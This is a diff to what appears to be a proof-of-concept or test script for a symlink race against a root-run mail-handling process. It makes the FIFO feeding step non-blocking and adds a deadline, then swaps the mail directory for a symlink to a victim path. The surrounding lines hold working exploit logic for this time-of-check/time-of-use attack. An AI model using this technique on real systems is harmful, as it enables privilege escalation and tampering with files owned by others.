@@ -121,8 +121,21 @@ while not [f for f in os.listdir(new) if f != "precious"]:
     time.sleep(0.005)
 mail = [f for f in os.listdir(new) if f != "precious"][0]
 data = open(os.path.join(new, mail), "rb").read()
-with open(os.path.join(new, "precious"), "wb") as fifo:  # opens once root's probe reads it
-    fifo.write(data)
+# Feed the FIFO once root's probe opens it for reading (ENXIO until then); a root that never reads
+# it leaves the attacker waiting only so long.
+deadline = time.time() + 20
+while time.time() < deadline:
+    try:
+        fd = os.open(os.path.join(new, "precious"), os.O_WRONLY | os.O_NONBLOCK)
+    except OSError:
+        time.sleep(0.005)
+        continue
+    try:
+        os.write(fd, data)
+    except OSError:
+        pass
+    os.close(fd)
+    break
 time.sleep(0.2)
 os.rename(new, new + ".old")
 os.symlink(victim, new)
